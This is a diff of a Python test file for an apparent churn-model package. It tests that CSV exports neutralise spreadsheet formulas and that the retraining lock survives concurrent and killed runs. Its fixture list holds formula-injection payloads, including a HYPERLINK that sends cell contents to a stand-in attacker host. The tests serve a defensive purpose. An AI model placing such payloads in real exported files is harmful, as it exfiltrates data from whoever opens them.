@@ -1,7 +1,10 @@
 """The scoring function, atomic outputs, and the retraining job (decisions, lock, kill)."""
 
+import csv
 import hashlib
+import multiprocessing
 import os
+import re
 import signal
 import subprocess
 import sys
@@ -14,7 +17,7 @@ from mlflow.tracking import MlflowClient
 
 import churnml as cm
 from churnml.evaluation import population_stability
-from churnml.ops.retrain import retrain
+from churnml.ops.retrain import _lock, retrain
 from churnml.ops.serving import score
 from churnml.output import write_outputs
 
@@ -53,6 +56,108 @@ def test_write_atomic_keeps_the_previous_list_when_a_write_fails(tmp_path, monke
     assert sorted(p.name for p in tmp_path.iterdir()) == ["warnings.csv", "warnings.parquet"]  # no temporary file left
 
 
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+SUM(1,1)", "@SUM(1,1)", "-2+3", "\t=1+1", "\r=1+1", "  =1+1", "\n@x"]
+
+
+def test_csv_for_people_neutralises_spreadsheet_formulas_and_the_parquet_stays_exact(tmp_path):
+    n = len(FORMULAS)
+    frame = pd.DataFrame({
+        "customer_id": FORMULAS, "warning_level": [1] * n, "churn_probability": np.linspace(0.1, 0.9, n),
+        "health_change": [-2.5] * n, "reasons": [[f] for f in FORMULAS], "region": pd.Series(FORMULAS, dtype="string"),
+    })
+    frame["=cmd"] = "-1"  # a header and an object column of negative-looking text are text too
+    parquet, path = write_outputs(frame, tmp_path / "warnings")
+    with path.open(encoding="utf-8-sig", newline="") as f:
+        header, *rows = list(csv.reader(f))
+    people = dict(zip(header, zip(*rows)))
+    assert set(people.pop("health_change")) == {"-2.5"}  # numbers stay numbers
+    danger = tuple("=+-@\t\r")
+    for cell in [*people, *(c for column in people.values() for c in column)]:  # every other cell, headers too
+        assert not cell.startswith(danger) and not cell.lstrip().startswith(danger), repr(cell)
+    assert list(people["customer"]) == list(people["region"]) == ["'" + f for f in FORMULAS] and set(people["'=cmd"]) == {"'-1"}
+    machines = pd.read_parquet(parquet)  # exact for machines
+    assert machines.customer_id.tolist() == FORMULAS and (machines.health_change == -2.5).all() and (machines["=cmd"] == "-1").all()
+
+
+def _take_the_lock_in_turn(directory, start, log, seconds):
+    """A worker process: waits for the start file, then takes the retrain lock (retrying while busy) and holds it."""
+    while not start.exists():
+        time.sleep(0.001)
+    busy, deadline = "", time.time() + 15
+    while time.time() < deadline:
+        try:
+            with _lock(directory):
+                entered = time.time()
+                time.sleep(seconds)
+                left = time.time()
+            break
+        except RuntimeError as error:
+            busy = busy or str(error)
+            time.sleep(0.005)
+    else:
+        os._exit(3)
+    (log / f"{os.getpid()}.txt").write_text(f"{entered} {left}\n{busy}")
+
+
+@pytest.mark.parametrize("left_behind", ["", "stale"])
+def test_concurrent_retrain_runs_take_the_lock_one_at_a_time(tmp_path, left_behind):
+    if left_behind:  # the lock of a run that died: every process sees it at once
+        dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True).stdout.strip()
+        (tmp_path / "retrain.lock").write_text(dead)
+    start, log = tmp_path / "start", tmp_path / "log"
+    log.mkdir()
+    fork = multiprocessing.get_context("fork")  # POSIX, like the lock; the children need no new imports
+    workers = [fork.Process(target=_take_the_lock_in_turn, args=(tmp_path, start, log, 0.5)) for _ in range(6)]
+    for w in workers:
+        w.start()
+    time.sleep(0.2)
+    start.touch()
+    for w in workers:
+        w.join(30)
+    assert [w.exitcode for w in workers] == [0] * 6
+    runs = {int(p.stem): p.read_text().split("\n", 1) for p in log.iterdir()}
+    spans = sorted(tuple(map(float, times.split())) for times, _ in runs.values())
+    assert len(spans) == 6 and all(a_left <= b_entered for (_, a_left), (b_entered, _) in zip(spans, spans[1:])), spans
+    busy = [message for _, message in runs.values() if message]
+    assert len(busy) >= 5 and all(f"holds {tmp_path / 'retrain.lock'}; try again" in m for m in busy)
+    named = {int(p) for m in busy for p in re.findall(r"\(pid (\d+)\)", m)}
+    assert named & set(runs)  # the holder's pid (a waiter may read the file between flock and the holder's write)
+
+
+def test_a_lock_file_left_behind_does_not_block(tmp_path):
+    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True).stdout.strip()
+    lock = tmp_path / "retrain.lock"
+    # a crash between create and write; a dead run's pid; a pid reused by a live process (this one, init)
+    for content in ["", "0", "garbage", dead, str(os.getpid()), "1"]:
+        lock.write_text(content)
+        with _lock(tmp_path):
+            assert lock.read_text() == str(os.getpid())
+        assert lock.exists()  # never deleted: there is nothing to race on
+
+
+def _hold_the_lock(directory, held):
+    with _lock(directory):
+        held.touch()
+        time.sleep(60)
+
+
+def test_a_killed_run_does_not_block_the_next_one(tmp_path):
+    held = tmp_path / "held"
+    holder = multiprocessing.get_context("fork").Process(target=_hold_the_lock, args=(tmp_path, held))
+    holder.start()
+    deadline = time.time() + 10
+    while not held.exists() and time.time() < deadline:
+        time.sleep(0.01)
+    with pytest.raises(RuntimeError, match=f"another retraining run \\(pid {holder.pid}\\) holds {re.escape(str(tmp_path / 'retrain.lock'))}"):
+        with _lock(tmp_path):
+            pass
+    os.kill(holder.pid, signal.SIGKILL)
+    holder.join(10)
+    assert holder.exitcode == -signal.SIGKILL
+    with _lock(tmp_path):  # the kernel released the dead run's lock; its pid is still in the file
+        pass
+
+
 def test_population_stability_flags_a_shift():
     rng = np.random.default_rng(1)
     base = pd.Series(rng.normal(size=4000))
@@ -66,7 +171,7 @@ def first_run(sample, tmp_path_factory):
     """The job's first run, 2025-12-01, into an empty registry: the state the later runs start from.
 
     The tests below continue one job's life in file order (a live lock, a run killed halfway, the
-    next month's run that takes over its lock, the same month again), so that it is fitted twice, not five times.
+    next month's run after it, the same month again), so that it is fitted twice, not five times.
     """
     home = tmp_path_factory.mktemp("job")
     cfg = _config(home, "retrain-test")
@@ -80,18 +185,15 @@ def test_retrain_promotes_the_first_model(first_run):
     assert client.get_model_version_by_alias("retrain-test", "champion").version == first.challenger_version
     listing = pd.read_parquet(home / "out" / "warnings_2025-12-01.parquet")
     assert len(listing) == 2500 and listing.customer_id.is_unique
-    assert not (home / "out" / "retrain.lock").exists()
+    with _lock(home / "out"):  # released
+        pass
 
 
 def test_a_running_job_holds_the_lock(first_run, sample):
     home, cfg, _ = first_run
-    lock = home / "out" / "retrain.lock"
-    lock.write_text(str(os.getpid()))  # a live process holds it
-    try:
+    with _lock(home / "out"):  # a live run holds it
         with pytest.raises(RuntimeError, match=f"another retraining run \\(pid {os.getpid()}\\) holds"):
             retrain(cfg, sample, "2026-01-01")
-    finally:
-        lock.unlink()
 
 
 def test_killing_the_job_halfway_leaves_champion_and_warning_list_intact_and_the_next_run_decides(first_run, sample, sample_model):
@@ -106,7 +208,7 @@ def test_killing_the_job_halfway_leaves_champion_and_warning_list_intact_and_the
     # kill while it trains: after it took the lock, before it could finish
     lock = home / "out" / "retrain.lock"
     deadline = time.time() + 60
-    while not lock.exists() and time.time() < deadline:
+    while lock.read_text() != str(process.pid) and time.time() < deadline:
         time.sleep(0.05)
     time.sleep(2.0)
     process.send_signal(signal.SIGKILL)
@@ -117,13 +219,12 @@ def test_killing_the_job_halfway_leaves_champion_and_warning_list_intact_and_the
     assert hashlib.sha256(listing.read_bytes()).hexdigest() == digest
     assert not [p for p in (home / "out").iterdir() if p.name.startswith(".")]  # no half-written list
     assert not (home / "out" / "warnings_2026-01-01.parquet").exists()
-    assert lock.read_text() == str(process.pid)  # the dead run's lock is left behind
+    assert lock.read_text() == str(process.pid)  # the dead run's pid is left behind, its lock is not
 
     # a list written long enough ago for its labels to be complete now: the next run measures it
     write_outputs(score(sample, sample_model, "2025-03-01"), home / "out" / "warnings_2025-03-01")
-    # the next run takes over the dead run's lock, does the work and decides against the champion
+    # the next run takes the lock the kernel released, does the work and decides against the champion
     second = retrain(cfg, sample, "2026-01-01")
-    assert not lock.exists()
     assert second.decision in ("promoted", "kept_champion") and "champion" in second.reason
     assert second.champion_metrics and second.challenger_metrics
     # the simple baselines on the same rows; on the sample LightGBM ranks better, so the reason has no note
